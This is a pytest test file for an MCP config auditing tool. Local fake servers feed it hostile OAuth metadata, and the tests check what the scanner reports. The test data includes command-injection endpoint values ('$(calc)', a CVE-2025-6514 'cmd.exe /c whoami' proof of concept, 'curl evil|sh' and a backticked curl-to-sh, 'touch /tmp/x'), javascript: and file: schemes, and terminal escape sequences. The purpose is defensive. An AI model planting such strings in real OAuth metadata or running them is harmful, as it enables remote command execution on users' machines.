"""Remote OAuth checks against real HTTP(S) servers on 127.0.0.1.

Each test writes a real Cursor config into the temp home pointing at a real server
that plays one hostile (or well-behaved) variant, runs the live scan, and asserts
the rule, the server and the severity a user would see.
"""

from __future__ import annotations

import json
import ssl
import time
from pathlib import Path
from typing import Any

import pytest

from mcpaudit.inspect.oauth import probe_servers
from mcpaudit.inspect.oauth_http import USER_AGENT
from mcpaudit.model import Finding, ScanResult, Severity
from mcpaudit.rules.registry import RuleContext, run_rules
from mcpaudit.scan import ScanOptions, scan
from tests.conftest import run_cli
from tests.inspect.tls_cert import make_self_signed
from tests.servers.oauth_http import (
    OAuthHTTPServer,
    Route,
    Seen,
    as_metadata,
    well_behaved_routes,
)

GITHUB_TOKEN = "ghp_" + "EXAMPLE" * 5 + "1"  # the shape of a real token, obviously fake


@pytest.fixture(autouse=True)
def only_the_oauth_stage(monkeypatch: pytest.MonkeyPatch) -> None:
    """Run the scan's OAuth stage alone: the tool-inspection stage would spawn `npx
    mcp-remote` for the proxy configs and wait out its own timeout on these fake servers
    (its behaviour is tested with its own servers). The CLI test below runs both."""
    import mcpaudit.scan

    stages = [stage for stage in mcpaudit.scan.LIVE_STAGES if stage[0] == "oauth"]
    assert stages, "the OAuth probe is no longer a live stage of the scan"
    monkeypatch.setattr(mcpaudit.scan, "LIVE_STAGES", stages)


def write_cursor(home: Path, servers: dict[str, Any]) -> Path:
    path = home / ".cursor" / "mcp.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"mcpServers": servers}, indent=2))
    return path


def live_scan(home: Path) -> ScanResult:
    return scan(ScanOptions(env={"HOME": str(home)}, live=True))


def probe_requests(server: OAuthHTTPServer) -> list[Seen]:
    """What the OAuth probe sent (the live tool inspection also contacts the server)."""
    return [s for s in server.seen if s.headers.get("User-Agent") == USER_AGENT]


def oauth_findings(result: ScanResult) -> list[Finding]:
    return [f for f in result.findings if f.rule_id.startswith("MCP45")]


def triples(result: ScanResult) -> set[tuple[str, str | None, Severity]]:
    return {(f.rule_id, f.server, f.severity) for f in oauth_findings(result)}


def with_as(**overrides: Any) -> dict[str, Route]:
    routes = well_behaved_routes()
    routes["/.well-known/oauth-authorization-server"] = Route(body=as_metadata(**overrides))
    return routes


def test_well_behaved_server_yields_nothing_at_medium_or_above(isolated_home: Path) -> None:
    with OAuthHTTPServer(well_behaved_routes()) as server:
        write_cursor(isolated_home, {"good": {"url": f"{server.base}/mcp"}})
        result = live_scan(isolated_home)
    # The whole chain was walked: initialize, protected-resource and AS metadata.
    assert [(s.method, s.path) for s in probe_requests(server)] == [
        ("POST", "/mcp"),
        ("GET", "/.well-known/oauth-protected-resource/mcp"),
        ("GET", "/.well-known/oauth-authorization-server"),
    ]
    serious = [f for f in result.findings if f.severity.rank >= Severity.MEDIUM.rank]
    assert serious == []
    assert oauth_findings(result) == []  # documentation links on another host are normal


HOSTILE_AS = [
    ("http-endpoint", {"authorization_endpoint": "http://login.evil.example/authorize"}, "MCP452",
     Severity.HIGH),
    ("javascript-scheme", {"authorization_endpoint": "javascript:alert(document.cookie)"},
     "MCP451", Severity.CRITICAL),
    ("file-scheme", {"authorization_endpoint": "file:///C:/Windows/System32/calc.exe"}, "MCP451",
     Severity.CRITICAL),
    ("custom-scheme", {"token_endpoint": "vscode://evil.extension/run"}, "MCP451",
     Severity.CRITICAL),
    ("dollar-paren", {"authorization_endpoint": "https://x/$(calc)"}, "MCP450", Severity.CRITICAL),
    ("cve-2025-6514-poc", {"authorization_endpoint": "a:$(cmd.exe /c whoami > c:\\temp\\x)"},
     "MCP450", Severity.CRITICAL),
    ("percent-encoded", {"authorization_endpoint": "https://auth.example/%24%28calc%29"},
     "MCP450", Severity.CRITICAL),
    ("double-encoded-backticks", {"authorization_endpoint": "https://auth.example/%2560id%2560"},
     "MCP450", Severity.CRITICAL),
    ("backticks", {"authorization_endpoint": "https://auth.example/`id`"}, "MCP450",
     Severity.CRITICAL),
    ("quote-and-ampersand", {"authorization_endpoint": 'https://auth.example/x" & calc.exe & "'},
     "MCP450", Severity.CRITICAL),
    ("registration-pipe", {"registration_endpoint": "https://auth.example/r;curl evil|sh"},
     "MCP450", Severity.CRITICAL),
    ("issuer-mismatch", {"issuer": "https://accounts.example.com"}, "MCP453", Severity.HIGH),
    ("cross-host", {"authorization_endpoint": "https://login.attacker.example/authorize"},
     "MCP455", Severity.HIGH),
]  # fmt: skip


@pytest.mark.parametrize(
    ("variant", "overrides", "rule_id", "severity"),
    HOSTILE_AS,
    ids=[case[0] for case in HOSTILE_AS],
)
def test_hostile_authorization_server_metadata(
    isolated_home: Path, variant: str, overrides: dict[str, str], rule_id: str, severity: Severity
) -> None:
    with OAuthHTTPServer(with_as(**overrides)) as server:
        config = write_cursor(isolated_home, {variant: {"url": f"{server.base}/mcp"}})
        result = live_scan(isolated_home)
    assert (rule_id, variant, severity) in triples(result)
    hit = next(f for f in oauth_findings(result) if f.rule_id == rule_id)
    assert hit.file == str(config)
    assert hit.location.line == 4  # the "url" line of the entry
    field = next(iter(overrides))
    assert field in hit.evidence


def test_injection_finding_names_the_cve(isolated_home: Path) -> None:
    with OAuthHTTPServer(with_as(authorization_endpoint="https://x/$(calc)")) as server:
        write_cursor(isolated_home, {"evil": {"url": f"{server.base}/mcp"}})
        result = live_scan(isolated_home)
    hit = next(f for f in result.findings if f.rule_id == "MCP450")
    assert "CVE-2025-6514" in hit.message and hit.category == "malicious_oauth"
    assert "$(calc)" in hit.evidence


def test_probe_sends_no_credentials_no_cookies_only_get_and_initialize(
    isolated_home: Path,
) -> None:
    routes = well_behaved_routes()
    routes["/mcp"].headers["Set-Cookie"] = "session=EXAMPLE; Path=/"
    with OAuthHTTPServer(routes) as server:
        write_cursor(
            isolated_home,
            {
                "good": {
                    "url": f"http://user:pw-EXAMPLE@{server.base.removeprefix('http://')}/mcp",
                    "headers": {"Authorization": f"Bearer {GITHUB_TOKEN}", "X-Api-Key": "EXAMPLE"},
                }
            },
        )
        live_scan(isolated_home)
    assert len(probe_requests(server)) == 3
    for request in probe_requests(server):
        names = {k.lower() for k in request.headers}
        assert not names & {"authorization", "cookie", "x-api-key"}, request.headers
        assert request.method in ("GET", "POST")
    posts = [s for s in probe_requests(server) if s.method == "POST"]
    assert len(posts) == 1 and json.loads(posts[0].body)["method"] == "initialize"


def test_plain_scan_contacts_nobody(isolated_home: Path) -> None:
    with OAuthHTTPServer(with_as(authorization_endpoint="https://x/$(calc)")) as server:
        write_cursor(isolated_home, {"evil": {"url": f"{server.base}/mcp"}})
        result = scan(ScanOptions(env={"HOME": str(isolated_home)}))
    assert server.seen == []
    assert oauth_findings(result) == []


def test_protected_resource_for_another_resource(isolated_home: Path) -> None:
    routes = well_behaved_routes()
    routes["/.well-known/oauth-protected-resource/mcp"] = Route(
        body={"resource": "https://api.other.example/mcp", "authorization_servers": ["{base}"]}
    )
    with OAuthHTTPServer(routes) as server:
        write_cursor(isolated_home, {"borrowed": {"url": f"{server.base}/mcp"}})
        result = live_scan(isolated_home)
    assert ("MCP454", "borrowed", Severity.MEDIUM) in triples(result)


def test_legacy_discovery_at_origin_with_unannounced_login_host(isolated_home: Path) -> None:
    """2025-03-26 servers: a bare 401, no protected-resource metadata, AS metadata at the origin."""
    routes = {
        "/mcp": Route(401, {"error": "unauthorized"}, {"WWW-Authenticate": "Bearer"}),
        "/.well-known/oauth-authorization-server": Route(
            body=as_metadata(authorization_endpoint="https://login.phish.example/oauth")
        ),
    }
    with OAuthHTTPServer(routes) as server:
        write_cursor(isolated_home, {"legacy": {"url": f"{server.base}/mcp"}})
        result = live_scan(isolated_home)
    assert ("GET", "/.well-known/oauth-authorization-server") in [
        (s.method, s.path) for s in probe_requests(server)
    ]
    assert ("MCP455", "legacy", Severity.HIGH) in triples(result)


@pytest.mark.parametrize("content_length", [True, False], ids=["declared", "streamed"])
def test_response_over_one_megabyte_is_cut_off(isolated_home: Path, content_length: bool) -> None:
    routes = well_behaved_routes()
    routes["/.well-known/oauth-authorization-server"] = (
        Route(body="[" * 10 + " " * 1_100_000) if content_length else Route(flood=3_000_000)
    )
    with OAuthHTTPServer(routes) as server:
        write_cursor(isolated_home, {"huge": {"url": f"{server.base}/mcp"}})
        result = live_scan(isolated_home)
    hit = next(f for f in result.findings if f.rule_id == "MCP459")
    assert (hit.server, hit.severity) == ("huge", Severity.LOW)
    assert "too_large" in hit.message


def test_redirect_loop_is_bounded(isolated_home: Path) -> None:
    routes = well_behaved_routes()
    loop = "/.well-known/oauth-protected-resource/mcp"
    routes[loop] = Route(302, headers={"Location": "{base}" + loop})
    with OAuthHTTPServer(routes) as server:
        write_cursor(isolated_home, {"loopy": {"url": f"{server.base}/mcp"}})
        result = live_scan(isolated_home)
    assert ("MCP459", "loopy", Severity.LOW) in triples(result)
    assert (
        sum(1 for s in probe_requests(server) if s.path == loop) <= 8
    )  # 2 tries x (1 + 3 redirects)


def test_redirect_to_javascript_is_reported_not_followed(isolated_home: Path) -> None:
    routes = well_behaved_routes()
    routes["/.well-known/oauth-protected-resource/mcp"] = Route(
        302, headers={"Location": "javascript:alert(1)"}
    )
    with OAuthHTTPServer(routes) as server:
        write_cursor(isolated_home, {"bouncer": {"url": f"{server.base}/mcp"}})
        result = live_scan(isolated_home)
    assert ("MCP451", "bouncer", Severity.CRITICAL) in triples(result)


def test_slow_server_times_out_quickly(isolated_home: Path) -> None:
    routes = well_behaved_routes()
    routes["/mcp"] = Route(401, delay=5.0)
    with OAuthHTTPServer(routes) as server:
        write_cursor(isolated_home, {"sloth": {"url": f"{server.base}/mcp"}})
        static = scan(ScanOptions(env={"HOME": str(isolated_home)}))
        started = time.monotonic()
        probes = probe_servers(static.servers, timeout=0.5)
        elapsed = time.monotonic() - started
    ctx = RuleContext(
        files=static.files, servers=static.servers, home=static.home, live={"oauth": probes}
    )
    found = run_rules(ctx, include_live=True)
    assert elapsed < 2.5
    hit = next(f for f in found if f.rule_id == "MCP459")
    assert (hit.server, hit.severity) == ("sloth", Severity.INFO)
    assert "timeout" in hit.message


def test_self_signed_certificate_is_a_tls_error(isolated_home: Path, tmp_path: Path) -> None:
    pair = make_self_signed(tmp_path)
    if pair is None:
        pytest.skip("neither cryptography nor openssl available to make a certificate")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(*pair)
    with OAuthHTTPServer(well_behaved_routes(), tls=context) as server:
        write_cursor(isolated_home, {"selfsigned": {"url": f"{server.base}/mcp"}})
        result = live_scan(isolated_home)
    assert ("MCP457", "selfsigned", Severity.HIGH) in triples(result)
    hit = next(f for f in result.findings if f.rule_id == "MCP457")
    assert hit.category == "insecure_transport"
    assert "CERTIFICATE_VERIFY_FAILED" in hit.evidence or "certificate" in hit.evidence.lower()


def _open_server_routes() -> dict[str, Route]:
    body = {"jsonrpc": "2.0", "id": 1, "result": {"protocolVersion": "2025-06-18"}}
    return {"/mcp": Route(200, body)}


def test_github_token_sent_to_server_that_needs_none(isolated_home: Path) -> None:
    with OAuthHTTPServer(_open_server_routes()) as server:
        write_cursor(
            isolated_home,
            {
                "collector": {
                    "url": f"{server.base}/mcp",
                    "headers": {"Authorization": f"Bearer {GITHUB_TOKEN}"},
                }
            },
        )
        result = live_scan(isolated_home)
    assert ("MCP458", "collector", Severity.HIGH) in triples(result)
    hit = next(f for f in result.findings if f.rule_id == "MCP458")
    assert GITHUB_TOKEN not in hit.evidence and GITHUB_TOKEN not in hit.message
    assert hit.location.pointer == "/mcpServers/collector/headers/Authorization"


def test_generic_credential_to_open_server_is_low(isolated_home: Path) -> None:
    with OAuthHTTPServer(_open_server_routes()) as server:
        write_cursor(
            isolated_home,
            {
                "open": {
                    "url": f"{server.base}/mcp",
                    "headers": {"X-Api-Key": "EXAMPLE-generic-key-0000"},
                }
            },
        )
        result = live_scan(isolated_home)
    assert ("MCP458", "open", Severity.LOW) in triples(result)


def test_credential_to_server_that_demands_auth_is_fine(isolated_home: Path) -> None:
    with OAuthHTTPServer(well_behaved_routes()) as server:
        write_cursor(
            isolated_home,
            {
                "guarded": {
                    "url": f"{server.base}/mcp",
                    "headers": {"Authorization": f"Bearer {GITHUB_TOKEN}"},
                }
            },
        )
        result = live_scan(isolated_home)
    assert not [f for f in result.findings if f.rule_id == "MCP458"]


def test_mcp_remote_url_and_header_from_args(isolated_home: Path) -> None:
    with OAuthHTTPServer(with_as(authorization_endpoint="a:$(calc.exe)")) as server:
        write_cursor(
            isolated_home,
            {
                "via-proxy": {
                    "command": "npx",
                    "args": ["-y", "mcp-remote@0.1.15", f"{server.base}/mcp"],
                }
            },
        )
        result = live_scan(isolated_home)
    hit = next(f for f in result.findings if f.rule_id == "MCP450")
    assert (hit.server, hit.severity) == ("via-proxy", Severity.CRITICAL)
    assert "mcp-remote" in hit.message
    assert hit.location.pointer == "/mcpServers/via-proxy/args/2"


def test_mcp_remote_header_credential_resolved_from_env(isolated_home: Path) -> None:
    with OAuthHTTPServer(_open_server_routes()) as server:
        write_cursor(
            isolated_home,
            {
                "proxied": {
                    "command": "npx",
                    "args": [
                        "mcp-remote",
                        f"{server.base}/mcp",
                        "--header",
                        "Authorization: Bearer ${GH}",
                    ],
                    "env": {"GH": GITHUB_TOKEN},
                }
            },
        )
        result = live_scan(isolated_home)
    assert ("MCP458", "proxied", Severity.HIGH) in triples(result)


def test_supergateway_sse_uses_a_get(isolated_home: Path) -> None:
    routes = with_as(authorization_endpoint="javascript:fetch('//evil')")
    routes["/sse"] = routes.pop("/mcp")
    routes["/.well-known/oauth-protected-resource/sse"] = routes.pop(
        "/.well-known/oauth-protected-resource/mcp"
    )
    routes["/sse"].headers["WWW-Authenticate"] = (
        'Bearer resource_metadata="{base}/.well-known/oauth-protected-resource/sse"'
    )
    routes["/.well-known/oauth-protected-resource/sse"].body["resource"] = "{base}/sse"
    with OAuthHTTPServer(routes) as server:
        write_cursor(
            isolated_home,
            {
                "gateway": {
                    "command": "npx",
                    "args": ["-y", "supergateway", "--sse", f"{server.base}/sse"],
                }
            },
        )
        result = live_scan(isolated_home)
    first = probe_requests(server)[0]
    assert (first.method, first.path) == ("GET", "/sse")
    assert ("MCP451", "gateway", Severity.CRITICAL) in triples(result)


def test_cli_live_json_report(isolated_home: Path) -> None:
    with OAuthHTTPServer(with_as(authorization_endpoint="https://x/$(calc)")) as server:
        write_cursor(isolated_home, {"evil": {"url": f"{server.base}/mcp"}})
        static = run_cli("scan", "--format", "json", home=isolated_home)
        assert server.seen == []
        live = run_cli("scan", "--live", "--format", "json", home=isolated_home)
    assert static.returncode == 0, static.stderr
    assert live.returncode == 1, live.stderr
    report = json.loads(live.stdout)
    hits = [f for f in report["findings"] if f["rule_id"] == "MCP450"]
    assert hits and hits[0]["server"] == "evil" and hits[0]["severity"] == "critical"
    assert hits[0]["category"] == "malicious_oauth"


def test_escape_sequences_in_metadata_never_reach_the_report(isolated_home: Path) -> None:
    with OAuthHTTPServer(with_as(authorization_endpoint="https://x/\x1b]0;pwned\x07\x1b[8m")) as s:
        write_cursor(isolated_home, {"ansi": {"url": f"{s.base}/mcp"}})
        result = live_scan(isolated_home)
    hit = next(f for f in result.findings if f.rule_id == "MCP450")
    assert hit.server == "ansi" and hit.severity is Severity.CRITICAL
    for f in oauth_findings(result):
        assert "\x1b" not in f.message + f.evidence and "\x07" not in f.message + f.evidence


def test_unsafe_authorization_server_is_reported_and_not_fetched(isolated_home: Path) -> None:
    routes = well_behaved_routes()
    routes["/.well-known/oauth-protected-resource/mcp"] = Route(
        body={
            "resource": "{base}/mcp",
            "authorization_servers": ["https://as.example/`touch /tmp/x`", *["{base}"] * 50],
        }
    )
    with OAuthHTTPServer(routes) as server:
        write_cursor(isolated_home, {"listy": {"url": f"{server.base}/mcp"}})
        result = live_scan(isolated_home)
    assert ("MCP450", "listy", Severity.CRITICAL) in triples(result)
    as_gets = [s for s in probe_requests(server) if "oauth-authorization-server" in s.path]
    assert 1 <= len(as_gets) <= 2  # at most 3 servers are followed; the unsafe one is not


@pytest.mark.parametrize(
    "body",
    [
        "[" * 100_000,  # nesting that would blow the recursion limit
        '["not", "an", "object"]',
        "<html>a single-page app answering every path</html>",
        b"\xff\xfe\x00binary",
        "",
    ],
    ids=["deep-nesting", "json-array", "html", "binary", "empty"],
)
def test_malformed_metadata_is_survived(isolated_home: Path, body: str | bytes) -> None:
    routes = well_behaved_routes()
    routes["/.well-known/oauth-protected-resource/mcp"] = Route(body=body)
    routes["/.well-known/oauth-authorization-server"] = Route(body=body)
    with OAuthHTTPServer(routes) as server:
        write_cursor(isolated_home, {"garbled": {"url": f"{server.base}/mcp"}})
        result = live_scan(isolated_home)
    assert len(probe_requests(server)) >= 3  # the chain went on past each bad answer
    assert not [f for f in result.findings if f.severity.rank >= Severity.MEDIUM.rank]
    assert not [n for n in result.notes if "oauth" in n]  # the stage itself did not fail


def test_announced_authorization_server_on_another_host_is_fine(isolated_home: Path) -> None:
    """Delegating login is normal when the protected-resource metadata says so."""
    with OAuthHTTPServer({}) as auth:
        auth.routes["/.well-known/oauth-authorization-server"] = Route(
            body=as_metadata(issuer=auth.base.replace("127.0.0.1", "localhost"))
            | {
                k: v.replace("{base}", auth.base.replace("127.0.0.1", "localhost"))
                for k, v in as_metadata().items()
                if k.endswith("_endpoint")
            }
        )
        routes = well_behaved_routes()
        routes["/.well-known/oauth-protected-resource/mcp"] = Route(
            body={
                "resource": "{base}/mcp",
                "authorization_servers": [auth.base.replace("127.0.0.1", "localhost")],
            }
        )
        with OAuthHTTPServer(routes) as server:
            write_cursor(isolated_home, {"delegating": {"url": f"{server.base}/mcp"}})
            result = live_scan(isolated_home)
    assert [(s.method, s.path) for s in probe_requests(auth)] == [
        ("GET", "/.well-known/oauth-authorization-server")
    ]
    assert oauth_findings(result) == []


def test_injection_in_www_authenticate_resource_metadata(isolated_home: Path) -> None:
    routes = well_behaved_routes()
    routes["/mcp"].headers["WWW-Authenticate"] = (
        'Bearer resource_metadata="https://x.example/%60curl%20evil.example%7Csh%60"'
    )
    with OAuthHTTPServer(routes) as server:
        write_cursor(isolated_home, {"header-trick": {"url": f"{server.base}/mcp"}})
        result = live_scan(isolated_home)
    hit = next(f for f in result.findings if f.rule_id == "MCP450")
    assert (hit.server, hit.severity) == ("header-trick", Severity.CRITICAL)
    assert "resource_metadata" in hit.evidence and "WWW-Authenticate" in hit.evidence
    # The unsafe URL was not fetched; discovery fell back to the well-known locations.
    assert ("GET", "/.well-known/oauth-protected-resource/mcp") in [
        (s.method, s.path) for s in probe_requests(server)
    ]


def test_ca_from_ssl_cert_file_is_trusted(isolated_home: Path, tmp_path: Path) -> None:
    """A corporate CA given the usual way verifies; verification itself stays on."""
    pair = make_self_signed(tmp_path)
    if pair is None:
        pytest.skip("neither cryptography nor openssl available to make a certificate")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(*pair)
    with OAuthHTTPServer(well_behaved_routes(), tls=context) as server:
        write_cursor(isolated_home, {"corp": {"url": f"{server.base}/mcp"}})
        env = {"HOME": str(isolated_home), "SSL_CERT_FILE": str(pair[0])}
        result = scan(ScanOptions(env=env, live=True))
    assert len(probe_requests(server)) == 3
    assert oauth_findings(result) == []
